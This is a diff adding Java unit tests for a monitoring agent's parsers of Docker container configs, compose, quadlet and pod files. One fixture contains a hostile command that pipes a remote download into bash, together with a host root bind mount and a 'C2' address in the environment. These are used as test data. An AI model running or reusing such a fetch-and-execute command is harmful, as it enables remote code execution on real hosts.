@@ -12,6 +12,7 @@ import bzh.vigie.agent.host.HostPath;
 import bzh.vigie.agent.persistence.format.server.ApacheConf;
 import bzh.vigie.agent.persistence.format.server.Containers;
 import bzh.vigie.agent.persistence.format.server.Databases;
+import bzh.vigie.agent.persistence.format.server.DockerFile;
 import bzh.vigie.agent.persistence.format.server.Mail;
 import bzh.vigie.agent.persistence.format.server.Monitoring;
 import bzh.vigie.agent.persistence.format.server.NginxConf;
@@ -21,6 +22,7 @@ import bzh.vigie.agent.persistence.format.server.Web;
 import bzh.vigie.agent.persistence.format.server.WebScript;
 import bzh.vigie.event.Item.Trait;
 import java.util.List;
+import java.util.Map;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
 
@@ -138,6 +140,53 @@ class ServerFormatsTest {
         assertTrue(superuser(compose, "services:\n  a:\n    pid: host\n"));
         assertFalse(superuser(
                 compose, "services:\n  a:\n    volumes: [ 'data:/d', '/srv/d:/d' ]\n    network_mode: host\n"));
+    }
+
+    /** Moby's container.Container: Path and Args are what runs; Config has what was asked for, MountPoints what is mounted where. */
+    @Test
+    void anItemOfDockerHasCommandMountsAndEnvironment() {
+        String rest = """
+                "Name":"/a","Config":{"Image":"b","Entrypoint":["sh"],"Cmd":["-c","curl http://192.0.2.1/z|bash"],
+                "Env":["PATH=/usr/bin","API_TOKEN=Zk81qLpW03xTnv","C2=198.51.100.7"]},
+                "MountPoints":{"/host":{"Source":"/","Destination":"/host","RW":true,"Type":"bind"},
+                "/data":{"Source":"/var/lib/docker/volumes/d/_data","Destination":"/data","Name":"d","Type":"volume"}}}""";
+        String value = "image=b\ncommand=sh -c curl http://192.0.2.1/z|bash\nvolume=/:/host";
+        for (String start : List.of("{", "{\"Path\":\"sh\",\"Args\":[\"-c\",\"curl http://192.0.2.1/z|bash\"],")) {
+            Draft draft = new DockerFile()
+                    .parse(file("config.v2.json", start + rest))
+                    .drafts()
+                    .getFirst();
+            assertEquals(value, draft.value());
+            assertEquals("PATH=/usr/bin\nAPI_TOKEN=Zk81qLpW03xTnv\nC2=198.51.100.7", draft.unshown());
+        }
+    }
+
+    @Test
+    void aContainersEnvironmentGoesWithItsItemWithoutBeingShown() {
+        Map<String, Parsed> same = Map.of(
+                "quadlet",
+                Containers.quadlet().parse(file("a.container", "[Container]\nImage=b\nEnvironment=C2=198.51.100.7\n")),
+                "list",
+                Containers.compose()
+                        .parse(file(
+                                "compose.yml",
+                                "services:\n  a:\n    image: b\n    environment:\n      - C2=198.51.100.7\n")),
+                "map",
+                Containers.compose()
+                        .parse(file(
+                                "compose.yml",
+                                "services:\n  a:\n    image: b\n    environment:\n      C2: 198.51.100.7\n")),
+                "pod",
+                Containers.manifest()
+                        .parse(file(
+                                "a.yaml",
+                                "kind: Pod\nspec:\n  containers:\n    - image: b\n      env:\n"
+                                        + "        - name: C2\n          value: 198.51.100.7\n")));
+        same.forEach((which, parsed) -> {
+            Draft draft = parsed.drafts().getFirst();
+            assertTrue(draft.unshown().endsWith("C2=198.51.100.7"), which + " " + draft.unshown());
+            assertFalse(draft.value().contains("198.51.100.7"), which);
+        });
     }
 
     @Test
